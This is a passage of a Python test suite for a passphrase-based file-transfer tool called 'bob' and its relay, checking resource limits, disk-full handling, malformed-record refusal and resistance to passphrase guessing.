        [
            "bob: the passphrase in BOB_PASSPHRASE is too easy to guess (about 9 bits; a"
            " generated one has 22): use longer words, or unset it and let bob choose"
        ],
    )


# -- 11. the relay held full; the open-file limit ---------------------------------------------


def test_11_the_relay_raises_its_open_file_limit(tmp_path: Path) -> None:
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    low = min(256, hard)
    argv = ["prlimit", f"--nofile={low}:", "--", *bob_argv("relay", "--listen", "127.0.0.1:0")]
    proc = Process.start([*argv, "--admin", "127.0.0.1:0"])
    try:
        proc.wait_for(r"^Admin on ")
        limits = Path(f"/proc/{proc.pid}/limits").read_text()
    finally:
        proc.stop()
    line = next(x for x in limits.splitlines() if x.startswith("Max open files"))
    assert line.split()[3:5] == [str(hard), str(hard)]


def test_11_waiting_senders_are_capped_per_address(relay: RelayProcess) -> None:
    with contextlib.ExitStack() as stack:

        def sender(source: str) -> bytes:
            sock = stack.enter_context(socket.socket())
            sock.settimeout(TIMEOUT)
            sock.bind((source, 0))
            sock.connect((relay.host, relay.port))
            sock.sendall(b"bob/1 send\n")
            return sock.makefile("rb").readline()

        assert all(re.match(rb"^ok \d+\n$", sender("127.0.0.1")) for _ in range(20))
        assert sender("127.0.0.1") == b"error too many senders waiting from 127.0.0.1\n"
        assert re.match(rb"^ok \d+\n$", sender("127.0.0.2"))


# -- 12 and 13. a disk that fills; what the sender is told ------------------------------------


@pytest.fixture
def small_disk() -> Iterator[Path]:
    """A real file system of 8 MiB, mounted for the test (root only)."""
    if not ROOT:
        pytest.skip("mounting a small file system needs root")
    with scratch_disk("8m") as disk:
        yield disk


def test_12_a_stream_that_would_fill_the_disk_is_stopped(
    relay: RelayProcess, home: dict[str, str], small_disk: Path
) -> None:
    sender = send(relay, home, "-", stdin=subprocess.PIPE)
    receiver = bob(
        home, "recv", "--relay", relay.address, "--yes", "-o", str(small_disk), passphrase(sender)
    )
    with feeding(sender):
        code, lines = finished(receiver)
        assert code == 1 and re.fullmatch(
            r"ERROR: stdin went over \d+ bytes, all this receiver takes", lines[-1]
        ), lines
        status, said = finished(sender)
    assert (status, said[-1]) == (
        1,
        "ERROR: the other side says: the stream is larger than the receiver can take",
    )
    assert list(small_disk.iterdir()) == []
    free = os.statvfs(small_disk)
    assert free.f_bavail * free.f_frsize > 0  # nothing filled it


def test_12_empty_records_and_records_after_end_are_refused(
    relay: RelayProcess, home: dict[str, str], out: Path
) -> None:
    for nameplate, records in (
        ("31", [(Kind.DATA, b"")]),
        ("32", [(Kind.DATA, b"x"), (Kind.FILE_END, b""), (Kind.END, b""), (Kind.DATA, b"y")]),
    ):
        code = Code(nameplate, ("alpha", "abandon"))
        peer = Peer((relay.host, relay.port), code)
        assert peer.line() == f"ok {nameplate}\n".encode()
        receiver = bob(home, "recv", "--relay", relay.address, "--yes", "-o", str(out), str(code))
        try:
            assert peer.line().startswith(b"paired ")
            peer.handshake()
            assert peer.offer(Offer(entries=(Entry((f"f{nameplate}",), size=1),)))
            for kind, body in records:
                peer.seal(kind, body)
            status, lines = finished(receiver)
        finally:
            peer.close()
            receiver.stop()
        expected = "an empty data record" if nameplate == "31" else "data after its final record"
        assert status == 1 and lines[-1] == f"ERROR: the sender sent {expected}", lines


def test_13_the_sender_hears_what_failed_not_where(
    relay: RelayProcess, home: dict[str, str], tmp_path: Path, small_disk: Path
) -> None:
    big = tmp_path / "big.iso"
    big.write_bytes(bytes(9 << 20))
    sender = send(relay, home, str(big))
    got = recv(relay, home, "--yes", "-o", str(small_disk), passphrase(sender))
    code, lines = finished(sender)
    assert (code, got.returncode) == (1, 1)
    assert re.fullmatch(
        rf"ERROR: not enough space in {small_disk}: 9\.4 MB offered, [\d.]+ MB free",
        err(got)[-1],
    )
    assert lines[-1] == "ERROR: the other side says: the receiver has not enough free space"


def test_03_the_relay_logs_an_address_whose_joins_end_offers(
    relay: RelayProcess, home: dict[str, str]
) -> None:
    """The per-address throttle stops one machine, not one with many addresses: the relay
    cannot see a PAKE fail, but names the address whose joins end offers in their key
    exchange, so the organiser can find it."""
    for i in range(3):
        sender = send(relay, home, "--no-qr", "--text", f"message {i}")
        nameplate = passphrase(sender).split("-")[0]
        got = recv(relay, home, f"{nameplate}-wrong-guess")
        assert got.returncode == 1 and err(got)[-1].startswith("ERROR: wrong passphrase"), err(got)
        assert finished(sender)[0] == 1
    line = relay.process.wait_for(r"WARNING.*127\.0\.0\.1 joined 3 waiting offers")
    assert line.string.endswith(
        "127.0.0.1 joined 3 waiting offers in 10 minutes whose key exchange then failed,"
        " and each ended that offer: a wrong passphrase, or someone there guessing nameplates"
    ), line.string


def test_14_a_guess_that_takes_the_confirmation_and_leaves_uses_up_the_passphrase(
    relay: RelayProcess, home: dict[str, str]
) -> None:
    """A receiver that guesses, takes the sender's CONFIRM (enough to check its guess
    offline) and leaves without its own: the sender says the passphrase is used up, as it
    does for a wrong one, so nobody starts the same passphrase again for a second guess."""
    sender = send(relay, home, "--text", "hello", BOB_PASSPHRASE="4328-alpha-abandon-zoo")
    guess = Peer((relay.host, relay.port), Code("4328", ("ability", "able")), Side.RECEIVER)
    try:
        assert guess.line().startswith(b"paired ")
        guess.sock.sendall(guess.session.start())
        held = guess.buf
        while len(held) < 73:  # the sender's PAKE and CONFIRM frames
            chunk = guess.sock.recv(4096)
            assert chunk, held
            held += chunk
        guess.close()
        code, lines = finished(sender)
    finally:
        guess.close()
        sender.stop()
    assert (code, lines[-1]) == (
        1,
        "ERROR: a receiver's key exchange did not finish: the other side closed the"
        " connection. The passphrase is used up: start a new bob send",
    )
